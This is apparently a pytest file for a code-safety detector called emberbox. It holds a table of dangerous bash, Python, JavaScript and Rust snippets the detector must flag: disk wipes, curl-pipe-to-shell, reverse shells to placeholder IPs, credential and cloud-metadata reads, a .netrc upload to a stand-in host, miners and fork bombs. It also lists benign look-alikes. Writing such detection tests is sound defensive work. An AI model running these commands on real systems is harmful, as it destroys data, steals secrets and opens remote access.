"""The catalogue of dangerous patterns: what is caught, in which disguise, and what is left alone."""

from __future__ import annotations

import pytest

from emberbox.languages import LANGUAGES, RULES
from emberbox.models import Language

WGET = "wget -qO- https://x.example.com/i.sh"
CAUGHT: list[tuple[Language, str, list[str]]] = [
    ("bash", "rm -r ~", ["bash.wipe"]),
    ("bash", 'rm -rf "$HOME"/*', ["bash.rm-rf", "bash.wipe"]),
    ("bash", "rm -rf --no-preserve-root /", ["bash.rm-rf", "bash.wipe"]),
    ("bash", "rm -Rf /usr/", ["bash.rm-rf", "bash.wipe"]),
    ("bash", "sudo rm -r //etc", ["bash.wipe"]),
    ("bash", "find / -delete", ["bash.wipe"]),
    ("bash", "find / -type f -exec rm {} +", ["bash.wipe"]),
    ("bash", "chmod -R 700 /", ["bash.wipe"]),
    ("bash", "chown -R nobody: /etc", ["bash.wipe"]),
    ("bash", "mv ~ /dev/null", ["bash.wipe"]),
    ("bash", "wipefs -a /dev/sda", ["bash.wipe"]),
    ("bash", "shred -n3 /dev/nvme0n1", ["bash.wipe"]),
    ("bash", "shutdown -h now", ["bash.power"]),
    ("bash", "sudo systemctl reboot", ["bash.power"]),
    ("bash", "init 0", ["bash.power"]),
    ("bash", "kill -9 -1", ["bash.power"]),
    ("bash", "kill -KILL -1", ["bash.power"]),
    ("bash", f"{WGET} | sh", ["bash.network-shell"]),
    ("bash", "curl -s x | sudo -E bash -", ["bash.network-shell"]),
    ("bash", "curl x | tee log | bash -s -- --yes", ["bash.network-shell"]),
    ("bash", "curl x | python3", ["bash.network-shell"]),
    ("bash", "curl x | gunzip | sh 2>/dev/null", ["bash.network-shell"]),
    ("bash", "bash <(curl -s x)", ["bash.network-shell"]),
    ("bash", "source <(curl -s x)", ["bash.network-shell"]),
    ("bash", 'eval "$(curl x)"', ["bash.network-shell"]),
    ("bash", f'sh -c "$({WGET})"', ["bash.network-shell"]),
    ("bash", "eval 'curl x | sh'", ["bash.network-shell"]),
    ("bash", "C=curl; $C x | sh", ["bash.network-shell"]),
    ("bash", "./xmrig -o pool.example.com:3333", ["bash.crypto-miner"]),
    ("bash", "nohup /tmp/.x/minerd -a cryptonight &", ["bash.crypto-miner"]),
    ("bash", "app --pool stratum+tcp://pool.example.com:3333", ["bash.crypto-miner"]),
    ("bash", "git clone https://git.example.com/xmrig.git", ["bash.crypto-miner"]),
    ("bash", "cat /etc/shadow", ["bash.credentials"]),
    ("bash", "cat ~/.aws/credentials | base64", ["bash.credentials"]),
    ("bash", "cp $HOME/.ssh/id_rsa /tmp", ["bash.credentials"]),
    ("bash", 'curl -F "f=@$HOME/.netrc" https://x.example.com', ["bash.credentials"]),
    ("bash", "while read l; do echo $l; done < ~/.git-credentials", ["bash.credentials"]),
    ("bash", "curl http://169.254.169.254/latest/meta-data/", ["bash.credentials"]),
    ("bash", "cat /proc/1/environ", ["bash.credentials"]),
    ("bash", "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1", ["bash.reverse-shell"]),
    ("bash", "nc -e /bin/sh 10.0.0.1 1", ["bash.reverse-shell"]),
    ("bash", "python3 -c 'import shutil; shutil.rmtree(\"/\")'", ["python.wipe"]),
    ("bash", "python3 - <<'EOF'\nimport os\nos.system('ls')\nEOF", ["python.os-system"]),
    ("bash", "node -e 'eval(\"1\")'", ["javascript.eval"]),
    ("bash", "sudo bash -c \"python3 -c 'eval(1)'\"", ["python.eval"]),
    ("bash", "mkfifo f; cat f | sh -i 2>&1 | nc h 1 > f", ["bash.reverse-shell"]),
    ("bash", "socat TCP:h:1 EXEC:/bin/sh", ["bash.reverse-shell"]),
    ("python", 'import shutil\nshutil.rmtree("/")', ["python.wipe"]),
    ("python", "from shutil import rmtree as r\nfrom pathlib import Path\nr(Path.home())", ["python.wipe"]),
    ("python", 'from shutil import *\nrmtree("/home")', ["python.wipe"]),
    ("python", 'open("/etc/shadow")', ["python.credentials"]),
    ("python", 'p = "/etc/" + "shadow"\nopen(p)', ["python.credentials"]),
    ("python", 'from pathlib import Path\n(Path.home() / ".aws" / "credentials").read_text()', ["python.credentials"]),
    ("python", 'import os\nopen(os.path.expanduser("~/.ssh/id_rsa"))', ["python.credentials"]),
    ("python", 'import os\nopen(os.path.join(os.environ["HOME"], ".netrc"))', ["python.credentials"]),
    ("python", "import os\nopen(f\"{os.getenv('HOME')}/.kube/config\")", ["python.credentials"]),
    ("python", 'import requests\nrequests.get("http://169.254.169.254/latest/")', ["python.credentials"]),
    ("python", 'def read(p):\n    return open(p).read()\nread("/etc/shadow")', ["python.credentials"]),
    ("python", "import os\nwhile True:\n    os.fork()", ["python.fork-bomb"]),
    ("python", "from os import fork as f\nwhile 1: f()", ["python.fork-bomb"]),
    ("python", 'import requests\nexec(requests.get("u").text)', ["python.exec", "python.network-exec"]),
    (
        "python",
        "import urllib.request as u\nd = u.urlopen('x').read()\neval(d)",
        ["python.eval", "python.network-exec"],
    ),
    ("python", 'import os\nos.system("curl x | sh")', ["bash.network-shell", "python.os-system"]),
    ("python", 'import subprocess\nsubprocess.run(["rm", "-rf", "/"])', ["bash.wipe", "python.subprocess"]),
    (
        "python",
        'import subprocess as s\ns.run(["sh", "-c", "curl x | sh"])',
        ["bash.network-shell", "python.subprocess"],
    ),
    ("python", 'POOL = "stratum+tcp://pool.example.com:3333"', ["python.crypto-miner"]),
    (
        "python",
        'import socket, os, pty\ns = socket.socket()\nos.dup2(s.fileno(), 0)\npty.spawn("sh")',
        ["python.reverse-shell"],
    ),
    ("javascript", 'const fs = require("fs"); fs.rmSync("/", {recursive: true})', ["javascript.fs", "javascript.wipe"]),
    (
        "javascript",
        'import { rm } from "node:fs/promises"; import os from "os"; await rm(os.homedir())',
        ["javascript.fs", "javascript.wipe"],
    ),
    ("javascript", 'globalThis.fs = require("fs"); fs.rmSync("/")', ["javascript.fs", "javascript.wipe"]),
    ("javascript", 'const f = await import("fs"); f.rmSync("/")', ["javascript.fs", "javascript.wipe"]),
    (
        "javascript",
        'import os from "os"; import fs from "fs"; fs.readFileSync(os.homedir() + "/.ssh/id_rsa")',
        ["javascript.credentials", "javascript.fs"],
    ),
    ("javascript", 'fetch("http://169.254.169.254/latest")', ["javascript.credentials"]),
    (
        "javascript",
        'const {exec} = require("child_process"); exec("curl x | sh")',
        ["bash.network-shell", "javascript.child-process"],
    ),
    (
        "javascript",
        'const cp = require("child_process"); for (;;) cp.fork(__filename)',
        ["javascript.child-process", "javascript.fork-bomb"],
    ),
    ("javascript", 'eval(await (await fetch("u")).text())', ["javascript.eval", "javascript.network-exec"]),
    ("javascript", 'fetch("u").then(r => r.text()).then(eval)', ["javascript.eval", "javascript.network-exec"]),
    ("javascript", 'const pool = "stratum+tcp://p.example.com:3333"', ["javascript.crypto-miner"]),
    ("rust", 'fn main() { std::fs::remove_dir_all("/").unwrap(); }', ["rust.fs-remove", "rust.wipe"]),
    ("rust", 'use std::fs::File; fn main() { File::open("/etc/shadow"); }', ["rust.credentials"]),
    (
        "rust",
        'use std::process::Command; fn main() { Command::new("sh").arg("-c").arg("curl x | sh").status(); }',
        ["bash.network-shell", "rust.process"],
    ),
    ("rust", 'use std::process::Command; fn main() { Command::new("xmrig"); }', ["rust.crypto-miner", "rust.process"]),
]

LEFT_ALONE: list[tuple[Language, str]] = [
    ("bash", "rm -r ./build"),
    ("bash", "rm -r /tmp/work"),
    ("bash", "find /tmp -name '*.pyc' -delete"),
    ("bash", "find / -name core -print"),
    ("bash", "echo 'rm -rf /; curl x | sh; cat /etc/shadow'"),
    ("bash", "# curl x | sh"),
    ("bash", "curl -s x | python3 -m json.tool"),
    ("bash", "curl -s x | python3 -c 'import sys; print(sys.stdin.read())'"),
    ("bash", "python3 -c 'print(1)'; node -e 'console.log(2)'"),
    ("bash", "python3 eval.py <<< 'eval(1)'"),
    ("bash", "curl -s x | jq . | tee out.json"),
    ("bash", "curl -fsSLo get.sh x"),
    ("bash", "ssh -i ~/.ssh/id_rsa host"),
    ("bash", "chmod 600 ~/.ssh/id_rsa"),
    ("bash", "cat ~/.ssh/id_rsa.pub"),
    ("bash", "kill -9 1234"),
    ("bash", "systemctl restart nginx"),
    ("bash", "echo hi > /dev/tcp/localhost/80"),
    ("bash", "nc -z localhost 80"),
    ("bash", "grep -c shutdown log"),
    ("python", 'print("rm -rf / and /etc/shadow")'),
    ("python", '"""Never read /etc/shadow."""\nx = "rm -rf /"'),
    ("python", 'import shutil\nshutil.rmtree("build")'),
    ("python", "import os\nwhile True:\n    if os.fork() == 0: break"),
    ("python", 'import requests\nprint(requests.get("https://example.com").text)'),
    ("python", 'SECRET = {"/etc/shadow"}\ndef allowed(p):\n    return p not in SECRET\nallowed("/etc/shadow")'),
    ("python", 'if path.startswith("/etc/shadow"): pass'),
    ("python", "model.eval()\nexecutor.exec_plan()"),
    ("javascript", 'console.log("/etc/shadow")'),
    ("javascript", "while (true) { await next(); }"),
    ("javascript", 'fetch("u").then(r => r.json()).then(console.log)'),
    ("rust", 'fn main() { println!("/etc/shadow xmrig"); }'),
    ("rust", 'fn main() { std::fs::create_dir_all("/tmp/x").unwrap(); }'),
]


@pytest.mark.parametrize(("language", "code", "rules"), CAUGHT)
def test_catches(language: Language, code: str, rules: list[str]) -> None:
    assert sorted({finding.rule for finding in LANGUAGES[language].check(code)}) == rules


@pytest.mark.parametrize(("language", "code"), LEFT_ALONE)
def test_leaves_alone(language: Language, code: str) -> None:
    assert LANGUAGES[language].check(code) == []


def test_every_danger_is_in_the_table() -> None:
    met = {rule for _, _, rules in CAUGHT for rule in rules}
    assert {rule.id for rule in RULES.values() if rule.group == "danger"} <= met
